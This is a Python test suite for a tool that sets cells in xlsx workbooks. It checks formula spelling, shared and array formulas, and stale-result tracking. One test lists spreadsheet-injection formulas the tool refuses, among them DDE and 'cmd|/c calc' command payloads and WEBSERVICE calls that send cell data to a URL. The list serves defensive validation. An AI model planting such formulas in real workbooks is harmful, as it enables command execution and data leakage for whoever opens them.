import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.formula.translate import Translator

from tests.shared_files import case_file
from tests.tools.office.xlsx.books import MAIN, book, by_openpyxl, opened, part, sheet_xml
from tools.office.xlsx.errors import XlsxError
from tools.office.xlsx.formula_rules import shown
from tools.office.xlsx.formula_tokens import moved, tokens
from tools.office.xlsx.set_cells import set_cells

BARE = book(sheet_xml(""), sheet_xml(""))


def filed(formula: str) -> str:
    """The formula as the file spells it after it was set in A1."""
    content = set_cells(opened(BARE), "S1", [("A1", formula)]).content
    return str(by_openpyxl(content)["S1"]["A1"].value)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/?"&A1)',
        '=webservice ("http://x")',
        '=_xlfn.WebService("http://x")',
        '=1+IF(TRUE,ImportXML("a","b"),2)',
        '=IMPORTRANGE("a","b")',
        '=IMAGE("http://x/y.png")',
        "=cmd|'/c calc'!A0",
        '=DDE("cmd";"/c calc";"x")',
        '=RTD("a","","b")',
        "=[1]S1!A1",
        "=[Other.xlsx]S1!A1",
        "='C:\\dir\\[Other.xlsx]S1'!A1",
        "='http://x/[Other.xlsx]S1'!A1",
        "=Call(WEBSERVICE)",
    ],
)
def test_a_formula_that_reaches_outside_is_refused(formula: str) -> None:
    with pytest.raises(XlsxError, match="reaches outside"):
        filed(formula)


BROKEN = ["=SUM(A2", "=A2+", "=", "=SUM(A2;B2)", "=1 2", "=A2)", "=(,)", '="a', "=S9!A1", "=T[x]", "=*2"]
TOO_LONG = ['="' + "x" * 256 + '"', "=" + "+".join(["1"] * 5000)]


@pytest.mark.parametrize("formula", [*BROKEN, *TOO_LONG, "=A2 + ]", "=LET(a,1,a)", "=1()", "={1,}"])
def test_a_formula_that_excel_would_call_damage_is_refused(formula: str) -> None:
    with pytest.raises(XlsxError, match="formula for A1"):
        filed(formula)


@pytest.mark.parametrize(
    ("asked", "found"),
    [
        ("=SUM(B1:B3)*-2%", "=SUM(B1:B3)*-2%"),
        ('="WEBSERVICE(|"&S2!$B$1', '="WEBSERVICE(|"&S2!$B$1'),
        ("=IF(B1,,{1,2;3,4})", "=IF(B1,,{1,2;3,4})"),
        ("=xlookup(B1,C:C,D:D)", "=_xlfn.XLOOKUP(B1,C:C,D:D)"),
        ("=SORT(B1:B3)", "=_xlfn._xlws.SORT(B1:B3)"),
        ("=SUM(S2!B1#)", "=SUM(_xlfn.ANCHORARRAY(S2!B1))"),
        ("=@B1:B3", "=B1:B3"),
        ("='S2'!A1", "='S2'!A1"),
        ("=(B1:B3 A2:C2)", "=(B1:B3 A2:C2)"),
    ],
)
def test_a_formula_is_spelled_as_the_file_does(asked: str, found: str) -> None:
    assert filed(asked) == found


def test_newer_functions_are_shown_without_their_prefixes() -> None:
    assert shown("_xlfn._xlws.SORT(_xlfn.XLOOKUP(1,A:A,B:B))") == "=SORT(XLOOKUP(1,A:A,B:B))"


@given(st.text(alphabet="AB12$:!'\"#[]@(),;{}+-*. \\xé|", max_size=30))
def test_tokens_joined_are_the_formula(formula: str) -> None:
    assert "".join(token.text for token in tokens(formula)) == formula


@given(st.integers(0, 40), st.integers(0, 20))
def test_a_shared_formula_moves_as_an_independent_reader_moves_it(rows: int, columns: int) -> None:
    formula = "=SUM($A1:B$2)+LOG10(C3)*'My Sheet'!D4&\"A1\"+A:B+$3:4"
    target = Translator(formula, "A1").translate_formula(row_delta=rows, col_delta=columns)
    assert "=" + moved(formula[1:], rows, columns) == target


def test_a_reference_beyond_the_sheet_is_an_error_value() -> None:
    assert moved("A1+B2", -1, 0) == "#REF!+B1"


def test_results_that_depend_on_the_change_go_and_all_others_stay() -> None:
    content = case_file("xlsx_cached_formula.xlsx").read_bytes()
    edit = set_cells(opened(content), "Q1", [("B2", 1000)])
    sheet = part(edit.content)
    assert "<v>601</v>" in sheet
    assert not any(old in sheet for old in ("1500.5", "2400", "3001", "#DIV/0!", "150.05"))
    assert set(edit.stale) == {f"Q1!{name}" for name in ("C2", "B4", "C4", "D4", "E4", "B5", "B6")}
    assert 'fullCalcOnLoad="1"' in part(edit.content, "xl/workbook.xml")
    before, after = by_openpyxl(content)["Q1"], by_openpyxl(edit.content)["Q1"]
    assert [c.value for r in before for c in r if c.coordinate != "B2"] == [
        c.value for r in after for c in r if c.coordinate != "B2"
    ]


def test_a_shared_formula_is_handed_on_with_the_block_that_remains() -> None:
    content = case_file("xlsx_cached_formula.xlsx").read_bytes()
    sheet = part(set_cells(opened(content), "Q1", [("C2", 1)]).content)
    assert '<c r="C3"><f t="shared" ref="C3:C4" si="0">B3*2</f><v>601</v></c>' in sheet


def test_a_follower_of_a_shared_formula_is_written_without_the_lead() -> None:
    content = case_file("xlsx_cached_formula.xlsx").read_bytes()
    sheet = part(set_cells(opened(content), "Q1", [("C3", 1)]).content)
    assert '<f t="shared" ref="C2:C4" si="0">B2*2</f>' in sheet
    assert '<c r="C3"><v>1</v></c>' in sheet


def _cell(name: str, formula: str, attributes: str = "") -> str:
    return f'<c r="{name}"><f{attributes}>{formula}</f><v>7</v></c>'


def test_dependents_on_other_sheets_by_name_and_by_block_are_outdated() -> None:
    one = sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>')
    formulas = ["S1!A1", "B1+1", "SUM(S1!A:A)", "SUM(S1!1:1)", "Rate*2", "S1!B1", 'INDIRECT("S1!A1")', "1+1"]
    names = "ABCDEFGH"
    cells = "".join(_cell(f"{name}1", formula) for name, formula in zip(names, formulas, strict=True))
    content = book(
        one,
        sheet_xml(f'<row r="1">{cells}</row>'),
        workbook='<definedNames><definedName name="Rate">S1!$A$1</definedName></definedNames>',
    )
    edit = set_cells(opened(content), "S1", [("A1", 2)])
    assert set(edit.stale) == {"S2!A1", "S2!C1", "S2!D1", "S2!E1", "S2!G1"}
    assert part(edit.content, "xl/worksheets/sheet2.xml").count("<v>7</v>") == 3
    workbook = part(edit.content, "xl/workbook.xml")
    assert workbook.endswith('</definedNames><calcPr fullCalcOnLoad="1"/></workbook>')


def test_a_long_chain_of_dependents_is_followed_to_its_end() -> None:
    rows = "".join(
        f'<row r="{n}">{_cell(f"A{n}", f"A{n - 1}+SUM(A$1:A{n - 1})")}</row>' for n in range(2, 3000)
    )
    content = book(sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>' + rows))
    assert len(set_cells(opened(content), "S1", [("A1", 2)]).stale) == 2998
    assert len(set_cells(opened(content), "S1", [("A2998", 2)]).stale) == 1


@given(st.data())
def test_dependents_are_those_that_a_plain_search_finds(data: st.DataObject) -> None:
    columns, rows = "ABC", range(1, 6)
    names = [f"{c}{r}" for c in columns for r in rows]
    reads: dict[str, list[str]] = {}
    for name in data.draw(st.lists(st.sampled_from(names), unique=True, max_size=8)):
        top, height = data.draw(st.integers(1, 5)), data.draw(st.integers(0, 2))
        column = data.draw(st.sampled_from(columns))
        reads[name] = [f"{column}{row}" for row in range(top, top + height + 1)]
    cells = {name: _cell(name, f"SUM({refs[0]}:{refs[-1]})") for name, refs in reads.items()}
    content = book(sheet_xml("".join(
        f'<row r="{r}">' + "".join(cells.get(f"{c}{r}", "") for c in columns) + "</row>" for r in rows
    )))  # fmt: skip
    start = data.draw(st.sampled_from(names))
    wanted, grown = {start}, True
    while grown:
        more = {name for name, refs in reads.items() if wanted & set(refs)} | wanted
        grown, wanted = more != wanted, more
    edit = set_cells(opened(content), "S1", [(start, 5)])
    assert {place.removeprefix("S1!") for place in edit.stale} == wanted - {start}


def test_the_chain_of_calculation_goes_when_a_formula_goes() -> None:
    chain = f'<calcChain xmlns="{MAIN}"><c r="A1" i="1"/></calcChain>'
    content = book(
        sheet_xml(f'<row r="1">{_cell("A1", "B1")}{_cell("C1", "B1")}</row>'),
        more={"xl/calcChain.xml": chain},
    )
    kept = set_cells(opened(content), "S1", [("B1", 1)])
    assert "xl/calcChain.xml" in opened(kept.content)
    gone = set_cells(opened(content), "S1", [("A1", 1)])
    assert "xl/calcChain.xml" not in opened(gone.content)
    assert "calcChain" not in part(gone.content, "[Content_Types].xml")
    assert "calcChain" not in part(gone.content, "xl/_rels/workbook.xml.rels")
    assert by_openpyxl(gone.content)["S1"]["A1"].value == 1


def test_no_calculation_is_asked_for_without_formulas() -> None:
    edit = set_cells(opened(BARE), "S1", [("A1", 1)])
    assert edit.parts_changed == ("xl/worksheets/sheet1.xml",)


ARRAY = book(
    sheet_xml(
        '<row r="1"><c r="A1"><v>1</v></c><c r="C1"><f t="array" ref="C1:C2">A1:A2*2</f><v>2</v></c>'
        '<c r="E1" cm="1"><f t="array" ref="E1:E3">_xlfn.SEQUENCE(3)</f><v>1</v></c></row>'
        '<row r="2"><c r="C2"><v>4</v></c><c r="E2"><v>2</v></c></row><row r="3"><c r="E3"><v>3</v></c></row>'
        '<row r="5"><c r="B5"><f t="dataTable" ref="B5:B6" dt2D="0" r1="A1"/><v>1</v></c></row>'
        '<row r="6"><c r="B6"><v>1</v></c></row>'
    )
)


@pytest.mark.parametrize(
    ("cell", "words"),
    [("C1", "C1:C2"), ("C2", "C1:C2"), ("E2", "write to E1"), ("B6", "B5:B6"), ("B5", "B5:B6")],
)
def test_a_part_of_a_filled_block_is_refused(cell: str, words: str) -> None:
    with pytest.raises(XlsxError, match=words):
        set_cells(opened(ARRAY), "S1", [(cell, 1)])


def test_a_whole_array_is_written_over() -> None:
    sheet = part(set_cells(opened(ARRAY), "S1", [("C1", 8), ("C2", 9)]).content)
    assert '<c r="C1"><v>8</v></c>' in sheet
    assert '<c r="C2"><v>9</v></c>' in sheet


def test_cells_that_a_formula_spilled_into_are_freed_with_it() -> None:
    sheet = part(set_cells(opened(ARRAY), "S1", [("E1", 8)]).content)
    assert '<c r="E1"><v>8</v></c>' in sheet
    assert '<c r="E2"/>' in sheet
    assert '<c r="E3"/>' in sheet


def test_all_cells_of_an_array_lose_their_old_results_together() -> None:
    edit = set_cells(opened(ARRAY), "S1", [("A1", 5)])
    assert {"S1!C1", "S1!C2", "S1!B5", "S1!B6"} <= set(edit.stale)
    assert '<c r="C2"/>' in part(edit.content)
